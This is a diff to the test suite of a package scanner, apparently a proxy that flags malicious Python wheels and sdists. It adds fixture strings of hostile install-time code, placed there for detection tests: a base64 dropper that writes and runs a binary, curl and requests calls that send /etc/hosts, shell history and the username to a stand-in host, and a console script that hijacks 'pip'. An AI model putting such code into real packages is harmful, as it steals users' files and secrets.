@@ -117,6 +117,31 @@ setup(name="demo", version="1.0")
 subprocess.getoutput("dig @1.1.1.1 beacon.collect.example")
 subprocess.getoutput("pip install helper-payload -U")
 """
+DROP_RUN = """\
+import base64, os, subprocess
+BLOB = "aGVsbG8gd29ybGQ="
+def install():
+    target = os.path.join(os.getenv("TEMP"), "svc.bin")
+    with open(target, "wb") as handle:
+        handle.write(base64.b64decode(BLOB))
+    subprocess.Popen([target])
+install()
+"""
+# The first bytes of a PE header, base64: a literal that would be written out as a program.
+EMBEDDED_EXECUTABLE = (
+    'HEADER = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"\nx = 1\n'
+)
+UPLOAD = 'import os\nos.system("curl -s -F file=@/etc/hosts https://collect.example/up")\n'
+SHELL_HISTORY = """\
+import os, requests
+data = open(os.path.expanduser("~/.bash_history")).read()
+requests.post("https://collect.example/", data=data)
+"""
+BEACON_IN_CORE = """\
+import getpass, requests
+def main():
+    requests.post("https://collect.example/", json={"u": getpass.getuser()})
+"""
 MALICIOUS_PTH = "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
 
 # Legitimate packages do all of these every day; none may be flagged.
@@ -277,6 +302,55 @@ CASES = [
         True,
     ),
     (
+        "drop-run",
+        wheel({"demo/__init__.py": DROP_RUN}),
+        "demo-1.0-py3-none-any.whl",
+        "drop-run",
+        True,
+    ),
+    (
+        "embedded executable",
+        wheel({"demo/__init__.py": EMBEDDED_EXECUTABLE}),
+        "demo-1.0-py3-none-any.whl",
+        "embedded-executable",
+        False,
+    ),
+    (
+        "command hijack",
+        wheel(
+            {
+                "demo/__init__.py": "def main():\n    pass\n",
+                "demo-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = demo:main\n",
+            }
+        ),
+        "demo-1.0-py3-none-any.whl",
+        "command-hijack",
+        False,
+    ),
+    (
+        "command-line upload",
+        wheel({"demo/__init__.py": UPLOAD}),
+        "d-1.0-py3-none-any.whl",
+        "exfil-sink",
+        True,
+    ),
+    (
+        "shell history sent",
+        wheel({"demo/__init__.py": SHELL_HISTORY}),
+        "demo-1.0-py3-none-any.whl",
+        "credential-exfil",
+        True,
+    ),
+    (
+        "beacon in a module the package's __init__ calls",
+        wheel(
+            {"demo/__init__.py": "from .core import main\nmain()\n", "demo/core.py": BEACON_IN_CORE}
+        ),
+        "demo-1.0-py3-none-any.whl",
+        "phone-home",
+        True,
+    ),
+    (
         "bundled executable",
         _sdist("from setuptools import setup\nsetup()\n", **{"bin/payload.exe": "MZ"}),
         "demo-1.0.tar.gz",
@@ -351,3 +425,36 @@ def test_rules_version_is_reported() -> None:
     from pipgate.proxy.scan import RULES_VERSION
 
     assert scan_archive(_sdist("x = 1\n"), "demo-1.0.tar.gz").rules_version == RULES_VERSION
+
+
+def test_a_console_script_named_after_the_project_is_not_a_hijack() -> None:
+    archive = wheel(
+        {
+            "pip/__init__.py": "def main():\n    pass\n",
+            "pip-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = pip:main\npip3 = pip:main\n",
+        },
+        name="pip",
+    )
+    assert "command-hijack" not in {
+        f.rule for f in scan_archive(archive, "pip-1.0-py3-none-any.whl").findings
+    }
+
+
+def test_a_function_defined_but_not_called_at_import_weighs_less() -> None:
+    called = wheel(
+        {"demo/__init__.py": "from .core import main\nmain()\n", "demo/core.py": BEACON_IN_CORE}
+    )
+    defined = wheel(
+        {"demo/__init__.py": "from .core import main\n", "demo/core.py": BEACON_IN_CORE}
+    )
+    assert not POLICY.decide(scan_archive(called, "d.whl")).allowed
+    assert POLICY.decide(scan_archive(defined, "d.whl")).allowed
+
+
+def test_directories_named_with_test_or_doc_words_are_inert() -> None:
+    archive = _sdist(
+        "from setuptools import setup\nsetup()\n",
+        "def f():\n    return 1\n",
+        **{"manual tests/build.py": SETUP_DECODE_EXEC, "_test-data/gen.py": SETUP_DECODE_EXEC},
+    )
+    assert scan_archive(archive, "demo-1.0.tar.gz").findings == ()
